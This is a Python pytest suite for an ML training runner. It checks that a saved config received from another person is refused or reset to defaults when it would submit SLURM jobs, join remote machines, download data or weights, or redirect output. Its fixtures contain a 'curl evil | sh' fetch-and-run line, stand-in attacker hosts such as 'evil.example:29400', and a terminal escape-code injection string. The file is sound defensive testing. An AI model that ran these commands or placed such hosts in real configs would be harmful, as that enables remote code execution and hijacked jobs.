"""What a saved config may do without being typed again: nothing that reaches beyond its run."""

from __future__ import annotations

import shlex
import socket
from pathlib import Path
from typing import Any

import pytest
import yaml
from hydra.core.override_parser.overrides_parser import OverridesParser

from runner.base.errors import ConfigError, InvalidDatasetError, InvalidModelError
from runner.cli.commands import evaluate, export, resume
from runner.cli.commands.runs import repeat as runs_repeat
from runner.config import trust
from runner.config.saved import load_saved
from runner.config.schema.checks.validation import known_keys
from runner.launch.preflight import preflight
from tests.made_runs import make_run


def received(folder: Path, **changes: Any) -> Path:
    """A run folder as somebody else may have written it."""
    run_dir = make_run(folder)
    file = run_dir / "config.yaml"
    values = yaml.safe_load(file.read_text())
    for key, value in changes.items():
        *parents, last = key.split("__")
        section = values
        for name in parents:
            section = section[name]
        section[last] = value
    file.write_text(yaml.safe_dump(values))
    return run_dir


def test_the_tables_name_keys_that_there_are():
    known = set(known_keys({"data": {"source": "torchvision"}, "model": {"family": "resnet"}}))
    named = {*trust.SAFE_VALUES, *trust.FORGOTTEN, *trust.OF_SLURM, *trust.OF_MACHINES, trust.OF_THIS_MACHINE}
    assert named | {trust.WEIGHTS} <= known, named - known


SLURM = {"dist__launcher": "submitted", "dist__slurm__setup": ["curl evil | sh"]}
MACHINES = {"dist__nodes": 2, "dist__rendezvous": "evil.example:29400", "dist__node_rank": 1}
BY_HAND = ["dist.nodes=2", "dist.rendezvous=evil.example:29400"]


@pytest.mark.parametrize(
    ("changes", "what", "again", "here"),
    [
        (SLURM, "submit a job to SLURM", ["dist=slurm", 'dist.slurm.setup=["curl evil | sh"]'], "dist=default"),
        (
            MACHINES,
            "connect to other machines",
            ["dist.nodes=2", "dist.rendezvous=evil.example:29400"],
            "dist.nodes=1",
        ),
    ],
)
def test_keys_that_reach_beyond_this_machine_are_refused_with_what_to_type(tmp_path, changes, what, again, here):
    run_dir = received(tmp_path / "run", **changes)
    with pytest.raises(ConfigError) as refusal:
        load_saved(run_dir, ["trainer.epochs=3"])
    message = str(refusal.value)
    assert f"the saved config would {what}, which it does only where that is typed again" in message
    shown = shlex.split(message.partition("type: ")[2].partition("; to continue on this machine: ")[0])
    assert shown == again
    assert message.endswith(here)
    for typed in (shown, [here]):
        config = load_saved(run_dir, typed)
        assert (config.dist.launcher == "submitted") == ("dist=slurm" in typed)
        assert (config.dist.nodes == 2) == ("dist.nodes=2" in typed)


def test_the_commands_that_start_something_ask_and_connect_with_nobody(tmp_path, monkeypatch):
    asked = []
    monkeypatch.setattr(socket, "getaddrinfo", lambda *args, **_: asked.append(args))
    for changes in (SLURM, MACHINES):
        run_dir = received(tmp_path / str(len(changes)), **changes)
        for run in (resume.run, runs_repeat.run):
            with pytest.raises(ConfigError, match="typed again"):
                run([f"run={run_dir}", "trainer.epochs=9"])
    assert asked == []


def test_commands_that_only_read_a_run_load_any_saved_config(tmp_path):
    run_dir = received(tmp_path / "run", **SLURM)
    assert load_saved(run_dir, only_reads=True).dist.launcher == "submitted"


def test_a_typed_dict_does_not_hide_what_was_saved_beside_it(tmp_path):
    run_dir = received(tmp_path / "run", dist__launcher="submitted", dist__slurm__extra={"wrap": "evil"})
    typed = ["dist.launcher=submitted", "dist.slurm.extra={qos: high}"]
    with pytest.raises(ConfigError, match=r"dist\.slurm\.extra\.wrap.*: the saved config would"):
        load_saved(run_dir, typed)


def test_the_values_of_others_reach_the_terminal_without_control_characters(tmp_path):
    run_dir = received(tmp_path / "run", dist__launcher="submitted", dist__slurm__partition="a\x1b[2Jb\nc")
    with pytest.raises(ConfigError) as refusal:
        load_saved(run_dir)
    assert "\x1b" not in str(refusal.value) and "\n" not in str(refusal.value)


def test_places_give_way_to_the_defaults(tmp_path):
    run_dir = received(
        tmp_path / "run",
        output_dir=f"{tmp_path}/evil",
        sweep__dir=f"{tmp_path}/evil",
        sweep__storage="postgresql://evil/x",
        dist__rendezvous="evil:1",
        dist__node_rank=0,
    )
    config = load_saved(run_dir)
    assert (config.output_dir, config.sweep.dir, config.sweep.storage) == ("outputs", None, None)
    assert (config.dist.rendezvous, config.dist.node_rank) == (None, None)
    assert load_saved(run_dir, [f"output_dir={tmp_path}/mine"]).output_dir == f"{tmp_path}/mine"


def test_a_repeated_run_is_written_where_its_user_says(tmp_path, monkeypatch):
    run_dir = received(tmp_path / "run", output_dir=f"{tmp_path}/evil")
    monkeypatch.chdir(tmp_path)
    launched = []
    monkeypatch.setattr("runner.launch.launch", lambda *args, **_: launched.append(args))
    runs_repeat.run([f"run={run_dir}"])
    assert launched[0][0].config.output_dir == "outputs"


def of_torchvision(folder: Path, root: Path) -> Path:
    from runner.config.saved import default_values

    data = default_values({"data": "torchvision"})["data"] | {"root": str(root)}
    return received(folder, data=data)


@pytest.mark.parametrize("run", [resume.run, runs_repeat.run, evaluate.run, export.run])
def test_a_saved_config_downloads_no_data_set(tmp_path, monkeypatch, run):
    import torchvision

    run_dir = of_torchvision(tmp_path / "run", tmp_path / "nowhere")
    (run_dir / "classes.json").write_text('["cat", "dog"]')
    tried = []
    monkeypatch.setattr(torchvision.datasets.CIFAR10, "download", tried.append)
    more = [] if run in (evaluate.run, export.run) else ["trainer.epochs=9"]
    with pytest.raises(InvalidDatasetError, match=r"data.download = false.*type data.download=true"):
        run([f"run={run_dir}", *more, *(["format=torch_export"] if run == export.run else [])])
    assert tried == [] and not (tmp_path / "nowhere").exists()
    assert load_saved(run_dir, ["data.download=true"]).data.download


def test_a_saved_config_downloads_no_weights(tmp_path, monkeypatch):
    import torch

    tried = []
    monkeypatch.setattr(torch.hub, "download_url_to_file", lambda *args, **_: tried.append(args))
    monkeypatch.setenv("TORCH_HOME", str(tmp_path / "torch"))
    monkeypatch.chdir(tmp_path)
    run_dir = received(tmp_path / "run", model__weights="DEFAULT")
    with pytest.raises(InvalidModelError, match=r"a saved config downloads nothing; type model.weights="):
        runs_repeat.run([f"run={run_dir}"])
    assert tried == []
    config = load_saved(run_dir)
    assert preflight(config, may_download=True).config.model.weights == "DEFAULT", "typed, it would be"
    (run_dir / "checkpoints").mkdir()
    (run_dir / "checkpoints" / "last").write_text("1-1")
    assert preflight(config, run_dir, may_download=False).config == preflight(config).config, "none are needed"


@pytest.mark.parametrize(
    "value",
    [
        *(
            None,
            True,
            3,
            2.5,
            [],
            ["module load cuda", "x"],
            ["a:b"],
            {"qos": "high", "n": 2},
            "",
            "gpu",
            "null",
            "True",
        ),
        *("a b", "it's", 'say "hi"', "back\\", 'b\\"c', "a,b", "{x}", "[y]", "~", "k=v", "1e3", "é", "a:b", "-x", "%j"),
    ],
)
def test_the_override_that_is_shown_has_the_saved_value(value):
    override = trust.as_override("a.b", value)
    (parsed,) = OverridesParser.create().parse_overrides([override])
    assert (parsed.key_or_group, parsed.value()) == ("a.b", value), override
